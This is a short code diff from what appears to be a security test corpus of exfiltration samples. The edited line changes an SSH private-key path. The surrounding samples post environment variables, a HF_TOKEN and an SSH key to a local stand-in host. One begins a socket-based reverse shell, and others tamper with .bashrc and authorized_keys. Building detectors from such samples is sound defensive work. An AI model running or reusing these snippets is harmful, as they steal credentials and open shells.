@@ -114,7 +114,7 @@ EXFILTRATION = Family(
     _code(
         'import os, requests, json\nrequests.post("http://127.0.0.1:9/", data=json.dumps(dict(os.environ)))\n',
         'import os, requests\ntoken = os.environ.get("HF_TOKEN")\nrequests.get("http://127.0.0.1:9/?t=" + token)\n',
-        'import requests\nrequests.post("http://127.0.0.1:9/", data=open("/root/.ssh/id_rsa").read())\n',
+        'import requests\nrequests.post("http://127.0.0.1:9/", data=open("/home/user/.ssh/id_rsa").read())\n',
         'import socket, subprocess, os\ns = socket.socket()\ns.connect(("127.0.0.1", 9))\nos.dup2(s.fileno(), 0)\n',
         'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("echo hanse-test")\n',
         'from pathlib import Path\n(Path.home() / ".ssh" / "authorized_keys").write_text("x")\n',
